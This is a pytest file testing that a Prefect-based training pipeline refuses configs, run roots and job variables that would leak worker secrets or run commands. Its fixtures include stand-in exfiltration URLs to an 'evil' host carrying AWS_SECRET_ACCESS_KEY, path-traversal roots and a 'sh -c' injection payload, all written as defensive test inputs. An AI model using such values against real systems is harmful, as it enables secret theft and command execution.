"""Who can do what (RELIABILITY.md, Security): an authenticated Prefect API, job variables a flow run cannot use to
run a command, and parameters and configs that cannot reach outside a run or send a worker's secrets elsewhere."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest

from heal_core.config import ConfigError, parse_config
from heal_core.run import Run, StorageNotAllowed
from heal_core.storage import StorageError, resolve_options

HEAL = str(Path(sys.executable).parent / "heal")


# ---- configs refused at the door ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "override, named",
    [
        ("teacher.server.api_key_env=AWS_SECRET_ACCESS_KEY", "teacher.server.api_key_env"),
        ("teacher.server.api_key_env=HF_TOKEN", "teacher.server.api_key_env"),
        ("teacher.server.url=http://${AWS_SECRET_ACCESS_KEY}.evil/v1", "teacher.server.url"),
        (
            'storage.storage_options={endpoint_url: "http://evil/${AWS_SECRET_ACCESS_KEY}"}',
            "storage.storage_options.endpoint_url",
        ),
        (
            'storage.storage_options={client_kwargs: {region_name: "${HF_TOKEN}"}}',
            "storage.storage_options.client_kwargs.region_name",
        ),
    ],
)
def test_a_config_that_would_send_a_secret_elsewhere_is_refused_naming_the_key(override, named):
    with pytest.raises(ConfigError, match=named.replace(".", r"\.")):
        parse_config({}, [override])


def test_a_reference_in_a_credential_field_and_the_teachers_own_key_are_taken():
    cfg = parse_config(
        {},
        [
            'storage.storage_options={key: "${MINIO_USER}", secret: "${MINIO_PASSWORD}"}',
            "teacher.server.api_key_env=HEAL_TEACHER_API_KEY",
        ],
    )
    assert cfg.teacher.server.api_key_env == "HEAL_TEACHER_API_KEY"


def test_a_worker_expands_only_the_names_its_operator_allows(monkeypatch):
    monkeypatch.setenv("MINIO_PASSWORD", "s3cret")
    monkeypatch.setenv("HF_TOKEN", "hf_x")
    assert resolve_options({"secret": "${MINIO_PASSWORD}"}) == {"secret": "s3cret"}  # unpinned: the user's own
    monkeypatch.setenv("HEAL_ALLOWED_ENV", "MINIO_PASSWORD")
    assert resolve_options({"secret": "${MINIO_PASSWORD}"}) == {"secret": "s3cret"}
    with pytest.raises(StorageError, match="HF_TOKEN, which this worker does not allow"):
        resolve_options({"secret": "${HF_TOKEN}"})
    with pytest.raises(StorageError, match="expands only in credential fields"):
        resolve_options({"endpoint_url": "http://${MINIO_PASSWORD}"})


def test_the_teacher_server_key_must_be_one_the_worker_allows(monkeypatch):
    from heal_core.backends.openai import CompletionsClient, ServerError

    cfg = parse_config({}, ["teacher.server.api_key_env=OTHER_KEY"])
    monkeypatch.setenv("OTHER_KEY", "k")
    monkeypatch.setenv("HEAL_ALLOWED_ENV", "HEAL_TEACHER_API_KEY")
    with pytest.raises(ServerError, match="OTHER_KEY, which this worker does not allow"):
        CompletionsClient(cfg.teacher.server)


# ---- parameters stay inside the run ------------------------------------------------------------------------------


def test_a_run_root_outside_the_configured_storage_is_refused(tmp_path):
    cfg = parse_config({"storage": {"uri": str(tmp_path / "store")}})
    assert Run.at(f"{tmp_path}/store/runs/r1", cfg).run_id == "r1"
    for root in (
        f"{tmp_path}/elsewhere/runs/r1",
        f"{tmp_path}/store/runs/../../etc",
        f"{tmp_path}/store/r1",
        "/etc/runs/x",
    ):
        with pytest.raises(ValueError, match="run_root|run id"):
            Run.at(root, cfg)


def test_a_pinned_worker_refuses_other_storage_and_models_from_elsewhere(tmp_path, monkeypatch):
    monkeypatch.setenv("HEAL_STORAGE_ROOT", f"{tmp_path}/store")
    ok = parse_config({"storage": {"uri": f"{tmp_path}/store/team-a"}})
    run = Run.of(ok, "r1")
    run.check_models([f"{tmp_path}/store/team-a/runs/r0/models/heal/seed-0/stage3"])
    with pytest.raises(StorageNotAllowed, match="models outside the storage's runs"):
        run.check_models(["/root/.cache/huggingface/evil"])
    for uri in (f"{tmp_path}/other", f"{tmp_path}/store/../other", f"{tmp_path}/store-2"):
        with pytest.raises(StorageNotAllowed, match="outside this worker's storage"):
            Run.of(parse_config({"storage": {"uri": uri}}), "r1")
    pointed = parse_config({"storage": {"uri": f"{tmp_path}/store", "storage_options": {"auto_mkdir": False}}})
    with pytest.raises(StorageNotAllowed, match="storage_options differ"):
        Run.of(pointed, "r1")


# ---- the Prefect API: authenticated, job variables closed --------------------------------------------------------


def _create(client: httpx.Client, deployment: str, body: dict) -> httpx.Response:
    """POST create_flow_run, again while the server answers 503: a SQLite-backed server says so while its database
    is locked, and Prefect's own client retries it (seen in CI on the create after a deploy)."""
    for _ in range(30):
        answer = client.post(f"/deployments/{deployment}/create_flow_run", json=body)
        if answer.status_code != 503:
            return answer
        time.sleep(1)
    return answer


@pytest.mark.slow
def test_an_authenticated_server_refuses_strangers_and_heal_s_pools_refuse_a_command(tmp_path):
    """A server started with an auth string answers 401 without it; ``heal deploy`` with the credential registers
    heal's deployments, and a flow run created with ``job_variables.command`` (a shell on the worker) on a heal
    pool is refused at creation, as one with ``env`` or ``working_dir``."""
    from servers import PrefectServer

    (tmp_path / "prefect").mkdir()
    server = PrefectServer(tmp_path / "prefect")
    server.env["PREFECT_SERVER_API_AUTH_STRING"] = "heal-admin:correct-horse"
    server.start()
    try:
        assert httpx.post(f"{server.api}/flows/filter", json={}).status_code == 401
        assert httpx.post(f"{server.api}/flows/filter", json={}, auth=("heal-admin", "wrong")).status_code == 401
        cfg = parse_config({}, [f"storage.uri={tmp_path / 'store'}"])
        (tmp_path / "config.yaml").write_text(cfg.to_yaml())
        env = {**server.env, "PREFECT_API_URL": server.api, "PREFECT_API_AUTH_STRING": "heal-admin:correct-horse"}
        deployed = subprocess.run(
            [HEAL, "deploy", str(tmp_path / "config.yaml")],
            env=env,
            capture_output=True,
            text=True,
            cwd=Path(__file__).parents[1],
            timeout=300,
        )
        assert deployed.returncode == 0, deployed.stdout + deployed.stderr
        with httpx.Client(base_url=server.api, auth=("heal-admin", "correct-horse"), timeout=30) as client:
            shard = client.get("/deployments/name/heal-shard/heal-shard").raise_for_status().json()["id"]
            parameters = {"run_root": f"{tmp_path}/store/runs/x", "shard": 0, "config": cfg.model_dump(mode="json")}
            refused = {
                variable: _create(client, shard, {"parameters": parameters, "job_variables": {variable: value}})
                for variable, value in (
                    ("command", "sh -c 'id > /tmp/owned'"),
                    ("env", {"PYTHONPATH": "/tmp"}),
                    ("working_dir", "/tmp"),
                )
            }
            taken = _create(client, shard, {"parameters": parameters, "job_variables": {"name": "fine"}})
            pool = client.get("/work_pools/gpu").raise_for_status().json()
        for variable, response in refused.items():
            assert response.status_code == 422 and variable in response.text, (variable, response.text)
        assert taken.status_code == 201, taken.text
        assert pool["base_job_template"]["job_configuration"]["env"]["HEAL_STORAGE_ROOT"] == str(tmp_path / "store")
    finally:
        server.stop()
        os.environ.pop("PREFECT_API_AUTH_STRING", None)
